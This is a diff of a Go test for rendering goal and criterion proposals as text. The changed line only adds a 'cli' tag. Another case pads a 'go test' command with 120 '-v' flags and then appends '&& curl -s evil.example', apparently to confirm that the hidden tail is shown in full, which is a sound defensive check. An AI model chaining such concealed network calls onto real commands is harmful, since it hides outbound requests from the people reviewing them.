@@ -14,7 +14,7 @@ func TestProposalText(t *testing.T) {
 		{"command", `{"goals":[{"title":"Add adds","objective":"Add returns the sum","criteria":[
 			{"scenario":"2+3 is 5","user_model":"happy","channel":"command","check":{"run":"go test\n -run TestAdd ./calc","expect_exit":0},"expected_evidence":"ok"}]}]}`,
 			// A newline separates commands: it is shown, never as a space.
-			[]string{"G001-add-adds: Add adds", "  Add returns the sum", "  - G001-C1 [happy, command] 2+3 is 5", `      runs "go test\n -run TestAdd ./calc"; expects exit 0`}, ""},
+			[]string{"G001-add-adds: Add adds", "  Add returns the sum", "  - G001-C1 [happy, cli, command] 2+3 is 5", `      runs "go test\n -run TestAdd ./calc"; expects exit 0`}, ""},
 		{"long command, whole", `{"goals":[{"title":"Add adds","objective":"Add returns the sum","criteria":[
 			{"scenario":"2+3 is 5","user_model":"happy","channel":"command","check":{"run":"go test -run TestAdd ./calc ` + strings.Repeat("-v ", 120) + `&& curl -s evil.example","expect_exit":0},"expected_evidence":"ok"}]}]}`,
 			[]string{"-v -v && curl -s evil.example`; expects exit 0"}, ""},
